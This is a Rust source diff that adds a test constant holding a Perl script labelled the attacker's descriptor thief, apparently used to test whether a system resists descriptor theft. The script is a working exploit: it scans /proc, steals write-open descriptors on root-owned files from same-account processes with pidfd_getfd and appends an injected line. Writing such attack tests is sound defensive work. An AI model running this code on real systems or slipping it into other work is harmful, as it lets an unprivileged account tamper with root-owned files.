@@ -1091,3 +1091,39 @@ pub fn ssh_host() -> Option<TestHost> {
     }
     h
 }
+
+/// Perl, the attacker's descriptor thief. Arguments after `STOP SECS LOG`: a line to inject.
+/// Each sweep: for every process of its own account, every descriptor open for writing on a
+/// regular file that root owns is taken with `pidfd_getfd(2)` (allowed: same account, no Yama)
+/// and the line appended through it; each success is a `WON` line.
+pub const FD_THIEF: &str = r#"
+use strict; use warnings; use POSIX ();
+my ($stop, $secs, $log, $line) = @ARGV;
+open(my $L, '>>', $log) or die "log $log: $!"; select((select($L), $| = 1)[0]);
+my $end = time + $secs;
+my ($n, %done) = (0);
+while (!-e $stop && time < $end) {
+  $n++;
+  for my $pd (glob '/proc/[0-9]*') {
+    my ($pid) = $pd =~ m{(\d+)$}; next if $pid == $$;
+    my @ps = stat $pd or next; next unless $ps[4] == $<;
+    opendir(my $dh, "$pd/fd") or next;
+    for my $fd (grep { /^\d+$/ } readdir $dh) {
+      my $t = readlink "$pd/fd/$fd"; next unless defined $t && $t =~ m{^/};
+      my @st = stat "$pd/fd/$fd" or next; next unless -f _ && $st[4] == 0;
+      open(my $fi, '<', "$pd/fdinfo/$fd") or next; my $info = do { local $/; <$fi> } // '';
+      my ($flags) = $info =~ /^flags:\s*([0-7]+)/m; next unless defined $flags;
+      next unless (oct($flags) & 3) != 0;
+      next if $done{"$pid $fd $t"}++;
+      my $pidfd = syscall(434, $pid + 0, 0); next if $pidfd < 0;
+      my $new = syscall(438, $pidfd, $fd + 0, 0);
+      POSIX::close($pidfd);
+      next if $new < 0;
+      if (open(my $fh, '>>&=', $new)) { print $fh "$line\n"; close $fh; print $L "WON fd $fd of $pid: $t\n"; }
+    }
+  }
+  print $L "sweep $n\n";
+  select(undef, undef, undef, 0.02);
+}
+print $L "done sweeps=$n\n";
+"#;
